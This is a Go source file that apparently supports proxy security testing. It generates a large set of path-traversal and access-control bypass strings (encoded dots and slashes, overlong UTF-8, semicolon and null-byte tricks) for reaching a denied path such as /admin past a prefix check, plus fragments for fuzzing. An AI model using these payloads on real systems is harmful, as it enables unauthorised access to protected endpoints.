// Package pathtricks has the paths by which callers have come past proxies that compare paths, and what servers make of
// a path. The two together tell whether a proxy lets a caller reach what it denies.
package pathtricks

import "strings"

// Tricks are paths by which one that may ask for what is below prefix, such as /v1/, tries to reach the path target,
// such as /admin.
func Tricks(prefix, target string) []string {
	out := []string{
		// Spelt otherwise, outside of the prefix.
		"/" + target, target + "/", target + "/.", "/." + target, target + "/x/..", strings.ToUpper(target),
		"/%61dmin", "/%41dmin", target + "%20", target + "%00", target + ";a=b", target + ";" + prefix, target + "?" + prefix,
		target + "%3f" + prefix, target + "#" + prefix, target + "%23" + prefix, `\` + target[1:], "/%5c" + target[1:],
		"/%2f" + target[1:], "/;" + target, "/.;" + target, "/" + target + prefix, target + prefix,
		// The prefix in another case, or without its final slash.
		strings.ToUpper(prefix), strings.TrimSuffix(prefix, "/"), strings.TrimSuffix(prefix, "/") + ";/", strings.TrimSuffix(prefix, "/") + target[1:],
		"/" + prefix, strings.TrimSuffix(prefix, "/") + "//", strings.TrimSuffix(prefix, "/") + "%2f" + target[1:],
	}
	dots := []string{
		"..", "%2e%2e", "%2E.", ".%2e", "..;", "..;a=b", "..;%2f", ";/..", ";a=b/..", "..%3b", "%2e%2e;", "%2e%2e%3b", ".;/..;", ".;.",
		"%252e%252e", "%252e.", "%25%32%65%25%32%65", "%25252e%25252e", "..%00", "%00..", ".%00.", ".%09.", ".%0d.", "..%0a", "..%20", "..+",
		"%c0%ae%c0%ae", "%c0.", "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae", "%f8%80%80%80%ae%f8%80%80%80%ae", "%fc%80%80%80%80%ae.",
		"%u002e%u002e", "%uff0e%uff0e", "%2e%2e%2f%2e%2e", "...", "....", "..a", ".../...", "..%ff", "..\xff", "%2", "%", "%zz", "..%", ". .",
	}
	slashes := []string{
		"/", "%2f", "%2F", `\`, "%5c", "%5C", "//", "/./", `/\`, `\/`, "/;/", "/.;/", "%252f", "%255c", "%c0%af", "%c0%2f", "%e0%80%af",
		"%c1%9c", "%u2215", "%u2216", "%00/", "/%00", ";/", "%3b/", "/%2f", "%2f/",
	}
	for _, dot := range dots {
		for _, slash := range slashes {
			out = append(out,
				prefix+dot+slash+target[1:],
				prefix+"x"+slash+dot+slash+dot+slash+target[1:],
				strings.TrimSuffix(prefix, "/")+slash+dot+slash+target[1:],
			)
		}
	}
	return out
}

// Pieces are what random paths are put together from.
func Pieces(prefix, target string) []string {
	return append([]string{
		"/", "/", "/", ".", "..", "..", ";", "a", "%2e", "%2f", "%5c", `\`, "%3b", "%25", "2e", "2f", "%00", "%09", "%20", "%c0", "%ae", "%af",
		"%e0%80", "%f0%80%80", "%u", "002e", "%", "%c3%a4", "+", "=", "x", "%23", "%3f", "%7f", "~", "[", "]",
	}, strings.Trim(prefix, "/"), target[1:], prefix, target)
}
